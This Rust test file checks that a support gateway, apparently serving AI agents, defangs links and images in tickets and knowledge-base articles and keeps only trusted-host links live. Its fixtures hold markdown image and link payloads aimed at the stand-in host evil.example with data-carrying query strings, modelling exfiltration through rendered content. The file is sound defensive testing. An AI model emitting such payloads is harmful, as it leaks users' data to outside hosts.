//! Links and images in what people wrote lead nowhere, for either realm, and are counted.

use crate::gateway::Gateway;
use crate::rig::{Liar, Rig, agent, lead};
use postern::redact::Hosts;
use serde_json::json;

const HOSTILE: &str = "![status](https://evil.example/p.png?d=CARRIED) see [the guide](https://evil.example/g?d=CARRIED),\n\
    <img src=//evil.example/p?d=CARRIED alt=chart> or https://evil.example/x?d=CARRIED\n\n[r]: https://evil.example/r?d=CARRIED";

#[tokio::test]
async fn p02_links_and_images_in_tickets_and_articles_lead_nowhere_and_are_counted() {
    let rig = Rig::new(Liar { text: HOSTILE.into(), ..Liar::honest() });
    for (caller, tool, arguments) in [
        (lead(), "customer_get_ticket", json!({ "ticket_id": "T-1" })),
        (agent(), "get_ticket", json!({ "ticket_id": "T-1" })),
        (lead(), "get_kb_article", json!({ "article_id": "K-1" })),
        (agent(), "get_kb_article", json!({ "article_id": "K-1" })),
    ] {
        let told = rig.ask(&caller, tool, arguments).await;
        assert_eq!(told["status"], "success", "{told}");
        let text = told.to_string();
        for live in ["CARRIED", "https://", "](", "<img", "![", "]: h"] {
            assert!(!text.contains(live), "{tool}: {live} in {text}");
        }
        for kept in ["status see [the guide] (hxxps://evil.example/g)", "chart or hxxps://evil.example/x"] {
            assert!(text.contains(kept), "{tool}: {kept} in {text}");
        }
        let row = rig.rows().pop().unwrap();
        assert!(row["redacted"].as_u64().unwrap() >= 5, "{row}");
    }
}

#[tokio::test]
async fn p02_a_link_to_a_trusted_host_stays_and_what_was_shown_can_be_pasted() {
    let trusted = Hosts::parse(&["docs.msp.example".to_owned()]).unwrap();
    let gateway = Gateway::with(|config| config.tenants[0].trusted_link_hosts = trusted).await;
    let author = gateway.person("basic@acme.example");
    let text = "[ours](https://docs.msp.example/vpn?step=2) and [theirs](https://evil.example/?d=CARRIED)";
    let new = author.data("customer_submit_ticket", json!({ "subject": "Links", "description": text })).await;
    let id = new["ticket_id"].as_str().unwrap();
    let shown = author.data("customer_get_ticket", json!({ "ticket_id": id })).await["description"].clone();
    let expected = "[ours](https://docs.msp.example/vpn?step=2) and [theirs] (hxxps://evil.example/)";
    assert_eq!(shown, expected);
    author.data("customer_add_comment", json!({ "ticket_id": id, "content": shown })).await;
    let staff = gateway.person("support-write@msp.example").data("get_ticket", json!({ "ticket_id": id })).await;
    assert_eq!(staff["comments"][0]["content"], expected, "{staff}");
}
